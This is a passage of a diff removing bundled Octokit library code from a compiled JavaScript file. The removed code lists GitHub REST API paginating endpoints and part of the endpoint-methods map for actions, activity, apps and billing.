-      "GET /orgs/{org}/repos",
-      "GET /orgs/{org}/rulesets",
-      "GET /orgs/{org}/rulesets/rule-suites",
-      "GET /orgs/{org}/secret-scanning/alerts",
-      "GET /orgs/{org}/security-advisories",
-      "GET /orgs/{org}/team/{team_slug}/copilot/metrics",
-      "GET /orgs/{org}/team/{team_slug}/copilot/usage",
-      "GET /orgs/{org}/teams",
-      "GET /orgs/{org}/teams/{team_slug}/discussions",
-      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments",
-      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions",
-      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions",
-      "GET /orgs/{org}/teams/{team_slug}/invitations",
-      "GET /orgs/{org}/teams/{team_slug}/members",
-      "GET /orgs/{org}/teams/{team_slug}/projects",
-      "GET /orgs/{org}/teams/{team_slug}/repos",
-      "GET /orgs/{org}/teams/{team_slug}/teams",
-      "GET /projects/columns/{column_id}/cards",
-      "GET /projects/{project_id}/collaborators",
-      "GET /projects/{project_id}/columns",
-      "GET /repos/{owner}/{repo}/actions/artifacts",
-      "GET /repos/{owner}/{repo}/actions/caches",
-      "GET /repos/{owner}/{repo}/actions/organization-secrets",
-      "GET /repos/{owner}/{repo}/actions/organization-variables",
-      "GET /repos/{owner}/{repo}/actions/runners",
-      "GET /repos/{owner}/{repo}/actions/runs",
-      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/artifacts",
-      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/jobs",
-      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/jobs",
-      "GET /repos/{owner}/{repo}/actions/secrets",
-      "GET /repos/{owner}/{repo}/actions/variables",
-      "GET /repos/{owner}/{repo}/actions/workflows",
-      "GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/runs",
-      "GET /repos/{owner}/{repo}/activity",
-      "GET /repos/{owner}/{repo}/assignees",
-      "GET /repos/{owner}/{repo}/attestations/{subject_digest}",
-      "GET /repos/{owner}/{repo}/branches",
-      "GET /repos/{owner}/{repo}/check-runs/{check_run_id}/annotations",
-      "GET /repos/{owner}/{repo}/check-suites/{check_suite_id}/check-runs",
-      "GET /repos/{owner}/{repo}/code-scanning/alerts",
-      "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/instances",
-      "GET /repos/{owner}/{repo}/code-scanning/analyses",
-      "GET /repos/{owner}/{repo}/codespaces",
-      "GET /repos/{owner}/{repo}/codespaces/devcontainers",
-      "GET /repos/{owner}/{repo}/codespaces/secrets",
-      "GET /repos/{owner}/{repo}/collaborators",
-      "GET /repos/{owner}/{repo}/comments",
-      "GET /repos/{owner}/{repo}/comments/{comment_id}/reactions",
-      "GET /repos/{owner}/{repo}/commits",
-      "GET /repos/{owner}/{repo}/commits/{commit_sha}/comments",
-      "GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls",
-      "GET /repos/{owner}/{repo}/commits/{ref}/check-runs",
-      "GET /repos/{owner}/{repo}/commits/{ref}/check-suites",
-      "GET /repos/{owner}/{repo}/commits/{ref}/status",
-      "GET /repos/{owner}/{repo}/commits/{ref}/statuses",
-      "GET /repos/{owner}/{repo}/contributors",
-      "GET /repos/{owner}/{repo}/dependabot/alerts",
-      "GET /repos/{owner}/{repo}/dependabot/secrets",
-      "GET /repos/{owner}/{repo}/deployments",
-      "GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses",
-      "GET /repos/{owner}/{repo}/environments",
-      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies",
-      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/apps",
-      "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets",
-      "GET /repos/{owner}/{repo}/environments/{environment_name}/variables",
-      "GET /repos/{owner}/{repo}/events",
-      "GET /repos/{owner}/{repo}/forks",
-      "GET /repos/{owner}/{repo}/hooks",
-      "GET /repos/{owner}/{repo}/hooks/{hook_id}/deliveries",
-      "GET /repos/{owner}/{repo}/invitations",
-      "GET /repos/{owner}/{repo}/issues",
-      "GET /repos/{owner}/{repo}/issues/comments",
-      "GET /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions",
-      "GET /repos/{owner}/{repo}/issues/events",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/comments",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/events",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/labels",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/reactions",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/sub_issues",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/timeline",
-      "GET /repos/{owner}/{repo}/keys",
-      "GET /repos/{owner}/{repo}/labels",
-      "GET /repos/{owner}/{repo}/milestones",
-      "GET /repos/{owner}/{repo}/milestones/{milestone_number}/labels",
-      "GET /repos/{owner}/{repo}/notifications",
-      "GET /repos/{owner}/{repo}/pages/builds",
-      "GET /repos/{owner}/{repo}/projects",
-      "GET /repos/{owner}/{repo}/pulls",
-      "GET /repos/{owner}/{repo}/pulls/comments",
-      "GET /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions",
-      "GET /repos/{owner}/{repo}/pulls/{pull_number}/comments",
-      "GET /repos/{owner}/{repo}/pulls/{pull_number}/commits",
-      "GET /repos/{owner}/{repo}/pulls/{pull_number}/files",
-      "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews",
-      "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/comments",
-      "GET /repos/{owner}/{repo}/releases",
-      "GET /repos/{owner}/{repo}/releases/{release_id}/assets",
-      "GET /repos/{owner}/{repo}/releases/{release_id}/reactions",
-      "GET /repos/{owner}/{repo}/rules/branches/{branch}",
-      "GET /repos/{owner}/{repo}/rulesets",
-      "GET /repos/{owner}/{repo}/rulesets/rule-suites",
-      "GET /repos/{owner}/{repo}/secret-scanning/alerts",
-      "GET /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}/locations",
-      "GET /repos/{owner}/{repo}/security-advisories",
-      "GET /repos/{owner}/{repo}/stargazers",
-      "GET /repos/{owner}/{repo}/subscribers",
-      "GET /repos/{owner}/{repo}/tags",
-      "GET /repos/{owner}/{repo}/teams",
-      "GET /repos/{owner}/{repo}/topics",
-      "GET /repositories",
-      "GET /search/code",
-      "GET /search/commits",
-      "GET /search/issues",
-      "GET /search/labels",
-      "GET /search/repositories",
-      "GET /search/topics",
-      "GET /search/users",
-      "GET /teams/{team_id}/discussions",
-      "GET /teams/{team_id}/discussions/{discussion_number}/comments",
-      "GET /teams/{team_id}/discussions/{discussion_number}/comments/{comment_number}/reactions",
-      "GET /teams/{team_id}/discussions/{discussion_number}/reactions",
-      "GET /teams/{team_id}/invitations",
-      "GET /teams/{team_id}/members",
-      "GET /teams/{team_id}/projects",
-      "GET /teams/{team_id}/repos",
-      "GET /teams/{team_id}/teams",
-      "GET /user/blocks",
-      "GET /user/codespaces",
-      "GET /user/codespaces/secrets",
-      "GET /user/emails",
-      "GET /user/followers",
-      "GET /user/following",
-      "GET /user/gpg_keys",
-      "GET /user/installations",
-      "GET /user/installations/{installation_id}/repositories",
-      "GET /user/issues",
-      "GET /user/keys",
-      "GET /user/marketplace_purchases",
-      "GET /user/marketplace_purchases/stubbed",
-      "GET /user/memberships/orgs",
-      "GET /user/migrations",
-      "GET /user/migrations/{migration_id}/repositories",
-      "GET /user/orgs",
-      "GET /user/packages",
-      "GET /user/packages/{package_type}/{package_name}/versions",
-      "GET /user/public_emails",
-      "GET /user/repos",
-      "GET /user/repository_invitations",
-      "GET /user/social_accounts",
-      "GET /user/ssh_signing_keys",
-      "GET /user/starred",
-      "GET /user/subscriptions",
-      "GET /user/teams",
-      "GET /users",
-      "GET /users/{username}/attestations/{subject_digest}",
-      "GET /users/{username}/events",
-      "GET /users/{username}/events/orgs/{org}",
-      "GET /users/{username}/events/public",
-      "GET /users/{username}/followers",
-      "GET /users/{username}/following",
-      "GET /users/{username}/gists",
-      "GET /users/{username}/gpg_keys",
-      "GET /users/{username}/keys",
-      "GET /users/{username}/orgs",
-      "GET /users/{username}/packages",
-      "GET /users/{username}/projects",
-      "GET /users/{username}/received_events",
-      "GET /users/{username}/received_events/public",
-      "GET /users/{username}/repos",
-      "GET /users/{username}/social_accounts",
-      "GET /users/{username}/ssh_signing_keys",
-      "GET /users/{username}/starred",
-      "GET /users/{username}/subscriptions"
-    ];
-    function isPaginatingEndpoint(arg) {
-      if (typeof arg === "string") {
-        return paginatingEndpoints.includes(arg);
-      } else {
-        return false;
-      }
-    }
-    function paginateRest(octokit) {
-      return {
-        paginate: Object.assign(paginate.bind(null, octokit), {
-          iterator: iterator.bind(null, octokit)
-        })
-      };
-    }
-    paginateRest.VERSION = VERSION2;
-  }
-});
-
-// node_modules/@octokit/plugin-rest-endpoint-methods/dist-node/index.js
-var require_dist_node11 = __commonJS({
-  "node_modules/@octokit/plugin-rest-endpoint-methods/dist-node/index.js"(exports2, module2) {
-    "use strict";
-    var __defProp2 = Object.defineProperty;
-    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
-    var __getOwnPropNames2 = Object.getOwnPropertyNames;
-    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
-    var __export2 = (target, all) => {
-      for (var name in all)
-        __defProp2(target, name, { get: all[name], enumerable: true });
-    };
-    var __copyProps2 = (to, from, except, desc) => {
-      if (from && typeof from === "object" || typeof from === "function") {
-        for (let key2 of __getOwnPropNames2(from))
-          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
-            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
-      }
-      return to;
-    };
-    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
-    var index_exports = {};
-    __export2(index_exports, {
-      legacyRestEndpointMethods: () => legacyRestEndpointMethods,
-      restEndpointMethods: () => restEndpointMethods
-    });
-    module2.exports = __toCommonJS2(index_exports);
-    var VERSION2 = "13.3.2-cjs.1";
-    var Endpoints = {
-      actions: {
-        addCustomLabelsToSelfHostedRunnerForOrg: [
-          "POST /orgs/{org}/actions/runners/{runner_id}/labels"
-        ],
-        addCustomLabelsToSelfHostedRunnerForRepo: [
-          "POST /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
-        ],
-        addRepoAccessToSelfHostedRunnerGroupInOrg: [
-          "PUT /orgs/{org}/actions/runner-groups/{runner_group_id}/repositories/{repository_id}"
-        ],
-        addSelectedRepoToOrgSecret: [
-          "PUT /orgs/{org}/actions/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        addSelectedRepoToOrgVariable: [
-          "PUT /orgs/{org}/actions/variables/{name}/repositories/{repository_id}"
-        ],
-        approveWorkflowRun: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/approve"
-        ],
-        cancelWorkflowRun: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/cancel"
-        ],
-        createEnvironmentVariable: [
-          "POST /repos/{owner}/{repo}/environments/{environment_name}/variables"
-        ],
-        createOrUpdateEnvironmentSecret: [
-          "PUT /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
-        ],
-        createOrUpdateOrgSecret: ["PUT /orgs/{org}/actions/secrets/{secret_name}"],
-        createOrUpdateRepoSecret: [
-          "PUT /repos/{owner}/{repo}/actions/secrets/{secret_name}"
-        ],
-        createOrgVariable: ["POST /orgs/{org}/actions/variables"],
-        createRegistrationTokenForOrg: [
-          "POST /orgs/{org}/actions/runners/registration-token"
-        ],
-        createRegistrationTokenForRepo: [
-          "POST /repos/{owner}/{repo}/actions/runners/registration-token"
-        ],
-        createRemoveTokenForOrg: ["POST /orgs/{org}/actions/runners/remove-token"],
-        createRemoveTokenForRepo: [
-          "POST /repos/{owner}/{repo}/actions/runners/remove-token"
-        ],
-        createRepoVariable: ["POST /repos/{owner}/{repo}/actions/variables"],
-        createWorkflowDispatch: [
-          "POST /repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches"
-        ],
-        deleteActionsCacheById: [
-          "DELETE /repos/{owner}/{repo}/actions/caches/{cache_id}"
-        ],
-        deleteActionsCacheByKey: [
-          "DELETE /repos/{owner}/{repo}/actions/caches{?key,ref}"
-        ],
-        deleteArtifact: [
-          "DELETE /repos/{owner}/{repo}/actions/artifacts/{artifact_id}"
-        ],
-        deleteEnvironmentSecret: [
-          "DELETE /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
-        ],
-        deleteEnvironmentVariable: [
-          "DELETE /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
-        ],
-        deleteOrgSecret: ["DELETE /orgs/{org}/actions/secrets/{secret_name}"],
-        deleteOrgVariable: ["DELETE /orgs/{org}/actions/variables/{name}"],
-        deleteRepoSecret: [
-          "DELETE /repos/{owner}/{repo}/actions/secrets/{secret_name}"
-        ],
-        deleteRepoVariable: [
-          "DELETE /repos/{owner}/{repo}/actions/variables/{name}"
-        ],
-        deleteSelfHostedRunnerFromOrg: [
-          "DELETE /orgs/{org}/actions/runners/{runner_id}"
-        ],
-        deleteSelfHostedRunnerFromRepo: [
-          "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}"
-        ],
-        deleteWorkflowRun: ["DELETE /repos/{owner}/{repo}/actions/runs/{run_id}"],
-        deleteWorkflowRunLogs: [
-          "DELETE /repos/{owner}/{repo}/actions/runs/{run_id}/logs"
-        ],
-        disableSelectedRepositoryGithubActionsOrganization: [
-          "DELETE /orgs/{org}/actions/permissions/repositories/{repository_id}"
-        ],
-        disableWorkflow: [
-          "PUT /repos/{owner}/{repo}/actions/workflows/{workflow_id}/disable"
-        ],
-        downloadArtifact: [
-          "GET /repos/{owner}/{repo}/actions/artifacts/{artifact_id}/{archive_format}"
-        ],
-        downloadJobLogsForWorkflowRun: [
-          "GET /repos/{owner}/{repo}/actions/jobs/{job_id}/logs"
-        ],
-        downloadWorkflowRunAttemptLogs: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/logs"
-        ],
-        downloadWorkflowRunLogs: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/logs"
-        ],
-        enableSelectedRepositoryGithubActionsOrganization: [
-          "PUT /orgs/{org}/actions/permissions/repositories/{repository_id}"
-        ],
-        enableWorkflow: [
-          "PUT /repos/{owner}/{repo}/actions/workflows/{workflow_id}/enable"
-        ],
-        forceCancelWorkflowRun: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/force-cancel"
-        ],
-        generateRunnerJitconfigForOrg: [
-          "POST /orgs/{org}/actions/runners/generate-jitconfig"
-        ],
-        generateRunnerJitconfigForRepo: [
-          "POST /repos/{owner}/{repo}/actions/runners/generate-jitconfig"
-        ],
-        getActionsCacheList: ["GET /repos/{owner}/{repo}/actions/caches"],
-        getActionsCacheUsage: ["GET /repos/{owner}/{repo}/actions/cache/usage"],
-        getActionsCacheUsageByRepoForOrg: [
-          "GET /orgs/{org}/actions/cache/usage-by-repository"
-        ],
-        getActionsCacheUsageForOrg: ["GET /orgs/{org}/actions/cache/usage"],
-        getAllowedActionsOrganization: [
-          "GET /orgs/{org}/actions/permissions/selected-actions"
-        ],
-        getAllowedActionsRepository: [
-          "GET /repos/{owner}/{repo}/actions/permissions/selected-actions"
-        ],
-        getArtifact: ["GET /repos/{owner}/{repo}/actions/artifacts/{artifact_id}"],
-        getCustomOidcSubClaimForRepo: [
-          "GET /repos/{owner}/{repo}/actions/oidc/customization/sub"
-        ],
-        getEnvironmentPublicKey: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets/public-key"
-        ],
-        getEnvironmentSecret: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
-        ],
-        getEnvironmentVariable: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
-        ],
-        getGithubActionsDefaultWorkflowPermissionsOrganization: [
-          "GET /orgs/{org}/actions/permissions/workflow"
-        ],
-        getGithubActionsDefaultWorkflowPermissionsRepository: [
-          "GET /repos/{owner}/{repo}/actions/permissions/workflow"
-        ],
-        getGithubActionsPermissionsOrganization: [
-          "GET /orgs/{org}/actions/permissions"
-        ],
-        getGithubActionsPermissionsRepository: [
-          "GET /repos/{owner}/{repo}/actions/permissions"
-        ],
-        getJobForWorkflowRun: ["GET /repos/{owner}/{repo}/actions/jobs/{job_id}"],
-        getOrgPublicKey: ["GET /orgs/{org}/actions/secrets/public-key"],
-        getOrgSecret: ["GET /orgs/{org}/actions/secrets/{secret_name}"],
-        getOrgVariable: ["GET /orgs/{org}/actions/variables/{name}"],
-        getPendingDeploymentsForRun: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/pending_deployments"
-        ],
-        getRepoPermissions: [
-          "GET /repos/{owner}/{repo}/actions/permissions",
-          {},
-          { renamed: ["actions", "getGithubActionsPermissionsRepository"] }
-        ],
-        getRepoPublicKey: ["GET /repos/{owner}/{repo}/actions/secrets/public-key"],
-        getRepoSecret: ["GET /repos/{owner}/{repo}/actions/secrets/{secret_name}"],
-        getRepoVariable: ["GET /repos/{owner}/{repo}/actions/variables/{name}"],
-        getReviewsForRun: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/approvals"
-        ],
-        getSelfHostedRunnerForOrg: ["GET /orgs/{org}/actions/runners/{runner_id}"],
-        getSelfHostedRunnerForRepo: [
-          "GET /repos/{owner}/{repo}/actions/runners/{runner_id}"
-        ],
-        getWorkflow: ["GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}"],
-        getWorkflowAccessToRepository: [
-          "GET /repos/{owner}/{repo}/actions/permissions/access"
-        ],
-        getWorkflowRun: ["GET /repos/{owner}/{repo}/actions/runs/{run_id}"],
-        getWorkflowRunAttempt: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}"
-        ],
-        getWorkflowRunUsage: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/timing"
-        ],
-        getWorkflowUsage: [
-          "GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/timing"
-        ],
-        listArtifactsForRepo: ["GET /repos/{owner}/{repo}/actions/artifacts"],
-        listEnvironmentSecrets: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets"
-        ],
-        listEnvironmentVariables: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/variables"
-        ],
-        listJobsForWorkflowRun: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/jobs"
-        ],
-        listJobsForWorkflowRunAttempt: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/jobs"
-        ],
-        listLabelsForSelfHostedRunnerForOrg: [
-          "GET /orgs/{org}/actions/runners/{runner_id}/labels"
-        ],
-        listLabelsForSelfHostedRunnerForRepo: [
-          "GET /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
-        ],
-        listOrgSecrets: ["GET /orgs/{org}/actions/secrets"],
-        listOrgVariables: ["GET /orgs/{org}/actions/variables"],
-        listRepoOrganizationSecrets: [
-          "GET /repos/{owner}/{repo}/actions/organization-secrets"
-        ],
-        listRepoOrganizationVariables: [
-          "GET /repos/{owner}/{repo}/actions/organization-variables"
-        ],
-        listRepoSecrets: ["GET /repos/{owner}/{repo}/actions/secrets"],
-        listRepoVariables: ["GET /repos/{owner}/{repo}/actions/variables"],
-        listRepoWorkflows: ["GET /repos/{owner}/{repo}/actions/workflows"],
-        listRunnerApplicationsForOrg: ["GET /orgs/{org}/actions/runners/downloads"],
-        listRunnerApplicationsForRepo: [
-          "GET /repos/{owner}/{repo}/actions/runners/downloads"
-        ],
-        listSelectedReposForOrgSecret: [
-          "GET /orgs/{org}/actions/secrets/{secret_name}/repositories"
-        ],
-        listSelectedReposForOrgVariable: [
-          "GET /orgs/{org}/actions/variables/{name}/repositories"
-        ],
-        listSelectedRepositoriesEnabledGithubActionsOrganization: [
-          "GET /orgs/{org}/actions/permissions/repositories"
-        ],
-        listSelfHostedRunnersForOrg: ["GET /orgs/{org}/actions/runners"],
-        listSelfHostedRunnersForRepo: ["GET /repos/{owner}/{repo}/actions/runners"],
-        listWorkflowRunArtifacts: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/artifacts"
-        ],
-        listWorkflowRuns: [
-          "GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/runs"
-        ],
-        listWorkflowRunsForRepo: ["GET /repos/{owner}/{repo}/actions/runs"],
-        reRunJobForWorkflowRun: [
-          "POST /repos/{owner}/{repo}/actions/jobs/{job_id}/rerun"
-        ],
-        reRunWorkflow: ["POST /repos/{owner}/{repo}/actions/runs/{run_id}/rerun"],
-        reRunWorkflowFailedJobs: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/rerun-failed-jobs"
-        ],
-        removeAllCustomLabelsFromSelfHostedRunnerForOrg: [
-          "DELETE /orgs/{org}/actions/runners/{runner_id}/labels"
-        ],
-        removeAllCustomLabelsFromSelfHostedRunnerForRepo: [
-          "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
-        ],
-        removeCustomLabelFromSelfHostedRunnerForOrg: [
-          "DELETE /orgs/{org}/actions/runners/{runner_id}/labels/{name}"
-        ],
-        removeCustomLabelFromSelfHostedRunnerForRepo: [
-          "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}/labels/{name}"
-        ],
-        removeSelectedRepoFromOrgSecret: [
-          "DELETE /orgs/{org}/actions/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        removeSelectedRepoFromOrgVariable: [
-          "DELETE /orgs/{org}/actions/variables/{name}/repositories/{repository_id}"
-        ],
-        reviewCustomGatesForRun: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/deployment_protection_rule"
-        ],
-        reviewPendingDeploymentsForRun: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/pending_deployments"
-        ],
-        setAllowedActionsOrganization: [
-          "PUT /orgs/{org}/actions/permissions/selected-actions"
-        ],
-        setAllowedActionsRepository: [
-          "PUT /repos/{owner}/{repo}/actions/permissions/selected-actions"
-        ],
-        setCustomLabelsForSelfHostedRunnerForOrg: [
-          "PUT /orgs/{org}/actions/runners/{runner_id}/labels"
-        ],
-        setCustomLabelsForSelfHostedRunnerForRepo: [
-          "PUT /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
-        ],
-        setCustomOidcSubClaimForRepo: [
-          "PUT /repos/{owner}/{repo}/actions/oidc/customization/sub"
-        ],
-        setGithubActionsDefaultWorkflowPermissionsOrganization: [
-          "PUT /orgs/{org}/actions/permissions/workflow"
-        ],
-        setGithubActionsDefaultWorkflowPermissionsRepository: [
-          "PUT /repos/{owner}/{repo}/actions/permissions/workflow"
-        ],
-        setGithubActionsPermissionsOrganization: [
-          "PUT /orgs/{org}/actions/permissions"
-        ],
-        setGithubActionsPermissionsRepository: [
-          "PUT /repos/{owner}/{repo}/actions/permissions"
-        ],
-        setSelectedReposForOrgSecret: [
-          "PUT /orgs/{org}/actions/secrets/{secret_name}/repositories"
-        ],
-        setSelectedReposForOrgVariable: [
-          "PUT /orgs/{org}/actions/variables/{name}/repositories"
-        ],
-        setSelectedRepositoriesEnabledGithubActionsOrganization: [
-          "PUT /orgs/{org}/actions/permissions/repositories"
-        ],
-        setWorkflowAccessToRepository: [
-          "PUT /repos/{owner}/{repo}/actions/permissions/access"
-        ],
-        updateEnvironmentVariable: [
-          "PATCH /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
-        ],
-        updateOrgVariable: ["PATCH /orgs/{org}/actions/variables/{name}"],
-        updateRepoVariable: [
-          "PATCH /repos/{owner}/{repo}/actions/variables/{name}"
-        ]
-      },
-      activity: {
-        checkRepoIsStarredByAuthenticatedUser: ["GET /user/starred/{owner}/{repo}"],
-        deleteRepoSubscription: ["DELETE /repos/{owner}/{repo}/subscription"],
-        deleteThreadSubscription: [
-          "DELETE /notifications/threads/{thread_id}/subscription"
-        ],
-        getFeeds: ["GET /feeds"],
-        getRepoSubscription: ["GET /repos/{owner}/{repo}/subscription"],
-        getThread: ["GET /notifications/threads/{thread_id}"],
-        getThreadSubscriptionForAuthenticatedUser: [
-          "GET /notifications/threads/{thread_id}/subscription"
-        ],
-        listEventsForAuthenticatedUser: ["GET /users/{username}/events"],
-        listNotificationsForAuthenticatedUser: ["GET /notifications"],
-        listOrgEventsForAuthenticatedUser: [
-          "GET /users/{username}/events/orgs/{org}"
-        ],
-        listPublicEvents: ["GET /events"],
-        listPublicEventsForRepoNetwork: ["GET /networks/{owner}/{repo}/events"],
-        listPublicEventsForUser: ["GET /users/{username}/events/public"],
-        listPublicOrgEvents: ["GET /orgs/{org}/events"],
-        listReceivedEventsForUser: ["GET /users/{username}/received_events"],
-        listReceivedPublicEventsForUser: [
-          "GET /users/{username}/received_events/public"
-        ],
-        listRepoEvents: ["GET /repos/{owner}/{repo}/events"],
-        listRepoNotificationsForAuthenticatedUser: [
-          "GET /repos/{owner}/{repo}/notifications"
-        ],
-        listReposStarredByAuthenticatedUser: ["GET /user/starred"],
-        listReposStarredByUser: ["GET /users/{username}/starred"],
-        listReposWatchedByUser: ["GET /users/{username}/subscriptions"],
-        listStargazersForRepo: ["GET /repos/{owner}/{repo}/stargazers"],
-        listWatchedReposForAuthenticatedUser: ["GET /user/subscriptions"],
-        listWatchersForRepo: ["GET /repos/{owner}/{repo}/subscribers"],
-        markNotificationsAsRead: ["PUT /notifications"],
-        markRepoNotificationsAsRead: ["PUT /repos/{owner}/{repo}/notifications"],
-        markThreadAsDone: ["DELETE /notifications/threads/{thread_id}"],
-        markThreadAsRead: ["PATCH /notifications/threads/{thread_id}"],
-        setRepoSubscription: ["PUT /repos/{owner}/{repo}/subscription"],
-        setThreadSubscription: [
-          "PUT /notifications/threads/{thread_id}/subscription"
-        ],
-        starRepoForAuthenticatedUser: ["PUT /user/starred/{owner}/{repo}"],
-        unstarRepoForAuthenticatedUser: ["DELETE /user/starred/{owner}/{repo}"]
-      },
-      apps: {
-        addRepoToInstallation: [
-          "PUT /user/installations/{installation_id}/repositories/{repository_id}",
-          {},
-          { renamed: ["apps", "addRepoToInstallationForAuthenticatedUser"] }
-        ],
-        addRepoToInstallationForAuthenticatedUser: [
-          "PUT /user/installations/{installation_id}/repositories/{repository_id}"
-        ],
-        checkToken: ["POST /applications/{client_id}/token"],
-        createFromManifest: ["POST /app-manifests/{code}/conversions"],
-        createInstallationAccessToken: [
-          "POST /app/installations/{installation_id}/access_tokens"
-        ],
-        deleteAuthorization: ["DELETE /applications/{client_id}/grant"],
-        deleteInstallation: ["DELETE /app/installations/{installation_id}"],
-        deleteToken: ["DELETE /applications/{client_id}/token"],
-        getAuthenticated: ["GET /app"],
-        getBySlug: ["GET /apps/{app_slug}"],
-        getInstallation: ["GET /app/installations/{installation_id}"],
-        getOrgInstallation: ["GET /orgs/{org}/installation"],
-        getRepoInstallation: ["GET /repos/{owner}/{repo}/installation"],
-        getSubscriptionPlanForAccount: [
-          "GET /marketplace_listing/accounts/{account_id}"
-        ],
-        getSubscriptionPlanForAccountStubbed: [
-          "GET /marketplace_listing/stubbed/accounts/{account_id}"
-        ],
-        getUserInstallation: ["GET /users/{username}/installation"],
-        getWebhookConfigForApp: ["GET /app/hook/config"],
-        getWebhookDelivery: ["GET /app/hook/deliveries/{delivery_id}"],
-        listAccountsForPlan: ["GET /marketplace_listing/plans/{plan_id}/accounts"],
-        listAccountsForPlanStubbed: [
-          "GET /marketplace_listing/stubbed/plans/{plan_id}/accounts"
-        ],
-        listInstallationReposForAuthenticatedUser: [
-          "GET /user/installations/{installation_id}/repositories"
-        ],
-        listInstallationRequestsForAuthenticatedApp: [
-          "GET /app/installation-requests"
-        ],
-        listInstallations: ["GET /app/installations"],
-        listInstallationsForAuthenticatedUser: ["GET /user/installations"],
-        listPlans: ["GET /marketplace_listing/plans"],
-        listPlansStubbed: ["GET /marketplace_listing/stubbed/plans"],
-        listReposAccessibleToInstallation: ["GET /installation/repositories"],
-        listSubscriptionsForAuthenticatedUser: ["GET /user/marketplace_purchases"],
-        listSubscriptionsForAuthenticatedUserStubbed: [
-          "GET /user/marketplace_purchases/stubbed"
-        ],
-        listWebhookDeliveries: ["GET /app/hook/deliveries"],
-        redeliverWebhookDelivery: [
-          "POST /app/hook/deliveries/{delivery_id}/attempts"
-        ],
-        removeRepoFromInstallation: [
-          "DELETE /user/installations/{installation_id}/repositories/{repository_id}",
-          {},
-          { renamed: ["apps", "removeRepoFromInstallationForAuthenticatedUser"] }
-        ],
-        removeRepoFromInstallationForAuthenticatedUser: [
-          "DELETE /user/installations/{installation_id}/repositories/{repository_id}"
-        ],
-        resetToken: ["PATCH /applications/{client_id}/token"],
-        revokeInstallationAccessToken: ["DELETE /installation/token"],
-        scopeToken: ["POST /applications/{client_id}/token/scoped"],
-        suspendInstallation: ["PUT /app/installations/{installation_id}/suspended"],
-        unsuspendInstallation: [
-          "DELETE /app/installations/{installation_id}/suspended"
-        ],
-        updateWebhookConfigForApp: ["PATCH /app/hook/config"]
-      },
-      billing: {
-        getGithubActionsBillingOrg: ["GET /orgs/{org}/settings/billing/actions"],
-        getGithubActionsBillingUser: [
-          "GET /users/{username}/settings/billing/actions"
-        ],
-        getGithubBillingUsageReportOrg: [
-          "GET /organizations/{org}/settings/billing/usage"
-        ],
-        getGithubPackagesBillingOrg: ["GET /orgs/{org}/settings/billing/packages"],
-        getGithubPackagesBillingUser: [
-          "GET /users/{username}/settings/billing/packages"
-        ],
